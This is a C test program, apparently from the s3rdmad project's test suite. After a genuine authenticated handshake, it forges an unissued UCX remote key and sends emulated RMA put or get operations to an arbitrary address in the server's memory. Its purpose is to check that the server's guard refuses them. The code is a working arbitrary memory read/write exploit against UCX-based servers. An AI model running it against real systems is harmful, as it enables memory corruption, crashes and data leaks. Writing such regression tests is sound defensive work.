/* Attack client (tests only): after an honest session handshake over TCP,
 * it asks s3rdmad's UCX worker to execute emulated RMA against the server's
 * own memory. UCX's software-RMA handlers write/read whatever address the
 * peer names; s3rdmad must refuse them (src/server/ucx_guard.c).
 *
 *   s3r_swrma_attack HOST PORT ACCESS_KEY SECRET put|get ADDRESS
 *
 * ADDRESS is a server address in hex; an unmapped one (0x10) makes an
 * unguarded server crash, which is how the test sees the guard work.
 * Prints "sent" once the operation was handed to UCX, then the outcome;
 * exit 0 unless the handshake failed. */
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ucp/api/ucp.h>
#include <unistd.h>

#include "common/hash.h"
#include "common/clock.h"
#include "rdma/rdma_net.h"
#include "rdma/rdma_ucx.h"
#include "rdma/rdma_wire.h"

static uint8_t probe[RDMA_NONCE_LEN];
static int probe_got;

static ucs_status_t on_probe(void *arg, const void *h, size_t hl, void *data, size_t len,
                             const ucp_am_recv_param_t *p)
{
    (void)arg, (void)h, (void)hl, (void)p;
    if (len == RDMA_NONCE_LEN) {
        memcpy(probe, data, len);
        probe_got = 1;
    }
    return UCS_OK;
}

static int die(const char *what)
{
    fprintf(stderr, "s3r_swrma_attack: %s\n", what);
    return 2;
}

static long recv_type(int fd, int type, uint8_t **body)
{
    long n = rdma_net_recv_frame(fd, clock_mono_ms() + 5000, body);
    if (n <= 0 || rdma_wire_frame_type(*body, (size_t)n) != type)
        return -1;
    return n;
}

int main(int argc, char **argv)
{
    if (argc != 7)
        return die("usage: HOST PORT ACCESS_KEY SECRET put|get ADDRESS");
    const char *ak = argv[3], *sk = argv[4], *op = argv[5];
    uint64_t target = strtoull(argv[6], NULL, 16);

    ucp_config_t *uc;
    ucp_context_h ctx;
    ucp_worker_h w;
    ucp_address_t *caddr;
    size_t caddr_len;
    ucp_params_t up = {.field_mask = UCP_PARAM_FIELD_FEATURES,
                       .features = UCP_FEATURE_RMA | UCP_FEATURE_AM};
    ucp_worker_params_t wp = {0};
    if (ucp_config_read(NULL, NULL, &uc) != UCS_OK || ucp_init(&up, uc, &ctx) != UCS_OK ||
        ucp_worker_create(ctx, &wp, &w) != UCS_OK ||
        ucp_worker_get_address(w, &caddr, &caddr_len) != UCS_OK)
        return die("UCX init");
    ucp_config_release(uc);
    ucp_am_handler_param_t ah = {.field_mask =
                                     UCP_AM_HANDLER_PARAM_FIELD_ID | UCP_AM_HANDLER_PARAM_FIELD_CB,
                                 .id = RDMA_AM_PROBE,
                                 .cb = on_probe};
    ucp_worker_set_am_recv_handler(w, &ah);

    /* The honest handshake (docs/protocol.md §1.3), over TCP: a net session. */
    char err[256];
    int fd = rdma_net_connect(argv[1], atoi(argv[2]), NULL, 5000, err, sizeof(err));
    if (fd < 0)
        return die(err);
    uint8_t cn[RDMA_NONCE_LEN], sn[RDMA_NONCE_LEN], key[32], mac[RDMA_MAC_LEN];
    hash_random_bytes(cn, sizeof(cn));
    wire_out_t o = {0};
    uint8_t *body = NULL;
    long n;
    if (rdma_wire_hello(&o, ak, cn, caddr, caddr_len) < 0 ||
        rdma_net_send_all(fd, o.data, o.len, clock_mono_ms() + 5000) < 0 ||
        (n = recv_type(fd, RDMA_MSG_CHALLENGE, &body)) < 0 ||
        rdma_wire_parse_nonce(body, (size_t)n, RDMA_MSG_CHALLENGE, sn) < 0)
        return die("HELLO/CHALLENGE");
    free(body);
    rdma_session_key(sk, key);
    rdma_handshake_mac(key, "client", cn, sn, caddr, caddr_len, NULL, 0, ak, mac);
    if (rdma_wire_nonce(&o, RDMA_MSG_AUTH, mac) < 0 ||
        rdma_net_send_all(fd, o.data, o.len, clock_mono_ms() + 5000) < 0)
        return die("AUTH");
    for (uint64_t end = clock_mono_ms() + 5000; !probe_got && clock_mono_ms() < end;)
        if (!ucp_worker_progress(w))
            usleep(100);
    rdma_welcome_t wm;
    if (!probe_got || rdma_wire_nonce(&o, RDMA_MSG_PROVE, probe) < 0 ||
        rdma_net_send_all(fd, o.data, o.len, clock_mono_ms() + 5000) < 0 ||
        (n = recv_type(fd, RDMA_MSG_WELCOME, &body)) < 0 ||
        rdma_wire_parse_welcome(body, (size_t)n, &wm) < 0)
        return die("probe/PROVE/WELCOME");
    rdma_wire_free(&o);

    /* Our own endpoint to the server's worker, and an rkey the server never
     * gave: md map 0, host memory. UCP then emulates the operation with
     * active messages that the server's UCX executes. */
    ucp_ep_h ep;
    ucp_ep_params_t ep_p = {.field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS |
                                          UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE,
                            .address = (const ucp_address_t *)wm.worker_addr,
                            .err_mode = UCP_ERR_HANDLING_MODE_PEER};
    if (ucp_ep_create(w, &ep_p, &ep) != UCS_OK)
        return die("ucp_ep_create");
    free(body);
    ucp_request_param_t rp = {0};
    rdma_ucx_wait(w, ucp_ep_flush_nbx(ep, &rp), 5000);
    uint8_t rkey_buf[9] = {0};
    ucp_rkey_h rkey;
    if (ucp_ep_rkey_unpack(ep, rkey_buf, &rkey) != UCS_OK)
        return die("rkey unpack");
    uint8_t data[64];
    memset(data, 0x42, sizeof(data));
    ucs_status_ptr_t req = strcmp(op, "put") == 0
                               ? ucp_put_nbx(ep, data, sizeof(data), target, rkey, &rp)
                               : ucp_get_nbx(ep, data, sizeof(data), target, rkey, &rp);
    printf("sent\n");
    fflush(stdout);
    ucs_status_t st = rdma_ucx_wait(w, req, 3000);
    if (st == UCS_OK && strcmp(op, "put") == 0)
        st = rdma_ucx_wait(w, ucp_ep_flush_nbx(ep, &rp), 3000);
    printf("%s: %s\n", op, ucs_status_string(st));
    /* The lifeline stays open until here: the session is live throughout. */
    close(fd);
    return 0;
}
